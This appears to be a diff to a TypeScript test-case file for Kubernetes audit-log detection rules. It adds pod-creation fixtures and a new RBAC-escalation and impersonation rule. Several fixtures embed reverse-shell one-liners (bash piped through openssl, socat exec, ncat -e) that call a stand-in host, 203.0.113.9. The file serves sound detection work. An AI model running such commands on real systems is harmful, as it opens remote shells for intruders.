@@ -86,6 +86,8 @@ export const CASES: RuleCase[] = [
           })])),
         }),
       },
+      { title: 'bash 0>&1 into openssl (recorded as 0\\u003e\\u00261)', event: podCreate('default', 'tls', podSpec([shell('bash -i 0>&1 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/o')])) },
+      { title: "socat exec:'bash -li'", event: podCreate('default', 'socat', podSpec([shell("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.9:4444", 'alpine/socat:1.8.0.0')])) },
       { title: 'ncat -e in an init container', event: podCreate('team-a', 'web', podSpec([nginx()], { initContainers: [shell('ncat -e /bin/sh 203.0.113.9 9001', 'busybox:1.36')] })) },
     ],
     negatives: [
@@ -324,6 +326,7 @@ export const CASES: RuleCase[] = [
       },
     ],
     negatives: [
+      { title: 'AKS control plane relaying exec (masterclient)', event: E({ verb: 'create', user: kubelet, resource: 'subjectaccessreviews', level: 'Request', requestObject: { kind: 'SubjectAccessReview', apiVersion: 'authorization.k8s.io/v1', spec: { resourceAttributes: { verb: 'create', resource: 'nodes', subresource: 'proxy' }, user: 'masterclient', groups: ['system:masters', 'system:authenticated'] }, status: { allowed: false } } }) },
       { title: 'apiserver relaying kubectl exec', event: E({ verb: 'create', user: kubelet, resource: 'subjectaccessreviews', level: 'Request', requestObject: { kind: 'SubjectAccessReview', apiVersion: 'authorization.k8s.io/v1', spec: { resourceAttributes: { verb: 'create', resource: 'nodes', subresource: 'proxy', name: 'ip-10-0-12-34' }, user: 'kube-apiserver-kubelet-client', groups: ['system:masters', 'system:authenticated'] }, status: { allowed: false } } }) },
       { title: 'prometheus scraping nodes/metrics', event: E({ verb: 'create', user: kubelet, resource: 'subjectaccessreviews', level: 'Request', requestObject: { kind: 'SubjectAccessReview', apiVersion: 'authorization.k8s.io/v1', spec: { resourceAttributes: { verb: 'get', resource: 'nodes', subresource: 'metrics', name: 'ip-10-0-12-34' }, user: 'system:serviceaccount:monitoring:prometheus' }, status: { allowed: false } } }) },
       {
@@ -548,6 +551,7 @@ export const CASES: RuleCase[] = [
     ],
     negatives: [
       { title: 'secrets of one namespace', event: E({ verb: 'list', user: alice, resource: 'secrets', namespace: 'team-a', query: 'limit=500' }) },
+      { title: 'helm list -A (Helm release secrets only)', event: E({ verb: 'list', user: alice, resource: 'secrets', query: 'labelSelector=owner%3Dhelm', userAgent: 'Helm/3.16.2' }) },
       { title: 'cert-manager informer', event: E({ verb: 'watch', user: sa('cert-manager', 'cert-manager'), resource: 'secrets', userAgent: 'cert-manager-controller/v1.15.3' }) },
     ],
   },
@@ -595,6 +599,27 @@ export const CASES: RuleCase[] = [
     negatives: [
       { title: 'a person running kubectl auth can-i', event: E({ verb: 'create', user: alice, resource: 'selfsubjectaccessreviews' }) },
       { title: 'kube-system component', event: E({ verb: 'create', user: kubeSystem('coredns'), resource: 'selfsubjectaccessreviews' }) },
+    ],
+  },
+  {
+    rule: 'RBAC Escalation Or Impersonation Refused',
+    positives: [
+      {
+        title: 'ClusterRole granting more than the creator holds',
+        event: E({ verb: 'create', user: alice, resource: 'clusterroles', name: 'secret-admin', code: 403, decision: 'allow', message: 'clusterroles.rbac.authorization.k8s.io "secret-admin" is forbidden: user "alice@example.com" (groups=["devs" "system:authenticated"]) is attempting to grant RBAC permissions not currently held:\n{APIGroups:[""], Resources:["secrets"], Verbs:["get" "list"]}' }),
+      },
+      {
+        title: 'workload binding itself to cluster-admin without bind',
+        event: E({ verb: 'create', user: app, resource: 'rolebindings', namespace: 'team-a', name: 'x', code: 403, decision: 'allow', userAgent: 'python-requests/2.31.0', message: 'rolebindings.rbac.authorization.k8s.io "x" is forbidden: user "system:serviceaccount:team-a:app" (groups=["system:serviceaccounts" "system:serviceaccounts:team-a" "system:authenticated"]) is attempting to grant RBAC permissions not currently held:\n{APIGroups:["*"], Resources:["*"], Verbs:["*"]}' }),
+      },
+      {
+        title: 'kubectl --as refused',
+        event: E({ verb: 'list', user: mallory, resource: 'pods', namespace: 'kube-system', code: 403, message: 'users "system:admin" is forbidden: User "mallory@example.com" cannot impersonate resource "users" in API group "" at the cluster scope' }),
+      },
+    ],
+    negatives: [
+      { title: 'ordinary RBAC refusal', event: E({ verb: 'list', user: alice, resource: 'secrets', namespace: 'kube-system', code: 403, message: 'secrets is forbidden: User "alice@example.com" cannot list resource "secrets" in API group "" in the namespace "kube-system"' }) },
+      { title: 'role created within the creator\'s rights', event: E({ verb: 'create', user: alice, resource: 'roles', namespace: 'team-a', name: 'reader' }) },
     ],
   },
   {
